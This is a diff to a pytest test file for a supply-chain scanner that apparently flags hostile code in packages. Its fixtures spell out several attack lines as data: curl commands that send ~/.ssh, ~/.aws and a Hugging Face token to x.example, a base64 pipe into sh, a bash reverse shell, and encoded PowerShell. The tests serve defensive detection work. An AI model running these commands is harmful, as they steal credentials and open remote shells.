@@ -7,13 +7,14 @@ from pathlib import Path
 
 import pytest
 
-from mlsupply.evidence.foreign import foreign_facts, is_foreign, unseen
+from mlsupply.evidence.foreign import foreign_facts, is_foreign, is_foreign_program, unseen
 from mlsupply.evidence.look import looked_at
 from mlsupply.evidence.pool import Pool
 from mlsupply.model import Reason
 
 TAKES = [
     ("post.sh", b"#!/bin/sh\ntar czf - ~/.ssh ~/.aws/ | curl -s -T - https://x.example/\n"),
+    ("pip", b"#!/bin/sh\ncat ~/.cache/huggingface/token |\n  curl -s -d @- \\\r\n  https://x.example/\n"),
     ("run.sh", b"set -e\necho aW1wb3J0IG9z | base64 -d | sh\n"),
     ("back.bash", b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"),
     ("start.ps1", b"powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUA\n"),
@@ -25,6 +26,7 @@ TAKES = [
 LEAVES = [
     ("install.sh", b"curl -LsSf https://astral.sh/uv/install.sh | sh\n"),
     ("build.sh", b"set -e\ncmake -S . -B build && cmake --build build\ndocker run -it image bash -i\n"),
+    ("login.sh", b"cat ~/.cache/huggingface/token | \\\n  wc -c\ncurl https://x.example/ -o page.html\n"),
     ("wait.sh", b"until (echo > /dev/tcp/$HOST/$PORT) 2>/dev/null; do sleep 1; done\n"),
     ("deploy.sh", b"# tar ~/.ssh | curl -T - https://x.example\naws s3 cp dist s3://bucket --recursive\n"),
     ("app.js", b"fetch('/api/contents').then(r=>r.json());const _0xabcd=1;"),
@@ -38,7 +40,7 @@ LEAVES = [
 
 @pytest.mark.parametrize(("path", "data"), TAKES, ids=[path for path, _ in TAKES])
 def test_what_takes_hides_or_obeys_is_a_fact(path: str, data: bytes) -> None:
-    assert is_foreign(path)
+    assert is_foreign(path) or is_foreign_program(data)
     (fact,) = foreign_facts(path, data)
     assert (fact.behaviour, fact.member) == ("foreign-code", path)
     assert fact.detail
@@ -53,6 +55,8 @@ def test_ordinary_ones_are_not(path: str, data: bytes) -> None:
 def test_the_line_is_named_and_other_peoples_modules_are_passed_over() -> None:
     (fact,) = foreign_facts("post.sh", TAKES[0][1])
     assert fact.line == 2
+    (fact,) = foreign_facts("post.sh", b"make \\\n  all |\n  tee log\n" + TAKES[0][1])
+    assert fact.line == 5
     assert not is_foreign("demo/node_modules/npm/lib/config.js")
     assert not is_foreign("demo/data.json")
 
